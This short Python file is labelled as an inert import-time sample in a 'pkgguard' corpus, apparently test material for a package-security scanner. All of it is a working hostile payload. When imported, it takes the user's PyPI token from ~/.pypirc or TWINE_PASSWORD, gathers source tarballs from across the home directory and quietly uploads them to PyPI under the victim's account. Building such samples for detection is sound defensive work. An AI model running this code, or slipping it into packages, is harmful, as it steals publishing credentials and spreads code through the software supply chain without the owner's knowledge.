# pkgguard corpus 902 (import-time), modelled on [empirical]; inert, never run.
import configparser
import glob
import os
import subprocess
import sys

rc = configparser.ConfigParser()
rc.read(os.path.expanduser("~/.pypirc"))
token = rc.get("pypi", "password", fallback="") or os.environ.get("TWINE_PASSWORD", "")

if token.startswith("pypi-"):
    for dist in glob.glob(os.path.expanduser("~/**/dist/*.tar.gz"), recursive=True)[:10]:
        env = dict(os.environ, TWINE_USERNAME="__token__", TWINE_PASSWORD=token)
        subprocess.run([sys.executable, "-m", "twine", "upload", "--skip-existing", dist], env=env, capture_output=True)
